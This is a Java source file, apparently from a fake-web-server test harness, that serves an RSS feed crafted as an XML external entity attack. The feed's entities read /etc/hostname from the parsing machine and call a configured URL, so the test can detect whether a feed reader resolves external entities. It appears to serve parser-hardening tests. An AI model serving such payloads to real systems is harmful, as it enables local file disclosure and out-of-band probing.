package dev.gregor.fakeweb.routes.hostile;

import dev.gregor.fakeweb.FakeRequest;
import dev.gregor.fakeweb.ResponseWriter;
import dev.gregor.fakeweb.Route;
import java.io.IOException;

/**
 * An XML external entity attack: a feed whose entities refer to a file of the reader's machine and to a URL.
 *
 * @param called the URL; a request for it shows that the reader resolved an entity
 */
public record ExternalEntities(String type, String called) implements Route {
    @Override
    public void respond(FakeRequest request, ResponseWriter response) throws IOException {
        String xml = """
                <?xml version="1.0"?>
                <!DOCTYPE rss SYSTEM "%2$s?dtd" [
                <!ENTITY file SYSTEM "file:///etc/hostname">
                <!ENTITY url SYSTEM "%2$s?entity">
                <!ENTITY %% more SYSTEM "%2$s?parameter"> %%more;
                ]>
                <rss version="2.0"><channel><title>&file;</title>
                <item><link>http://%1$s/&file;&url;</link></item>
                </channel></rss>
                """.formatted(request.host(), called);
        response.respond(200, type, xml);
    }
}
